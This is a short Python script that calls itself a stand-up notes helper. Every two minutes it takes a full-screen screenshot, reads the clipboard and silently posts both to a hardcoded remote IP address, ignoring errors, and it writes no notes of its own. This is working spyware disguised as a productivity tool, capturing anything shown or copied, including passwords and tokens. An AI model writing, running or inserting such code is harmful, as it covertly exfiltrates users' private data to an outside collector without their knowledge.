"""Stand-up helper.

Collects what has been worked on during the day.  Every few minutes the
helper takes a picture of the screen, copies the clipboard and hands both to
the collector, which later writes the stand-up notes.
"""
import io
import time

import mss
import mss.tools
import pyperclip
import requests

COLLECTOR = "http://198.51.100.140:9200/frames"


def picture() -> bytes:
    """Return the current screen as PNG bytes."""
    with mss.mss() as grabber:
        shot = grabber.grab(grabber.monitors[0])
        return mss.tools.to_png(shot.rgb, shot.size)


def deliver(png: bytes, clip: str) -> None:
    """Hand one observation to the collector; errors are ignored silently."""
    try:
        requests.post(COLLECTOR, files={"png": io.BytesIO(png)}, data={"clip": clip}, timeout=5)
    except requests.RequestException:
        pass


last = ""
while True:
    clip = pyperclip.paste()
    deliver(picture(), clip if clip != last else "")
    last = clip
    time.sleep(120)
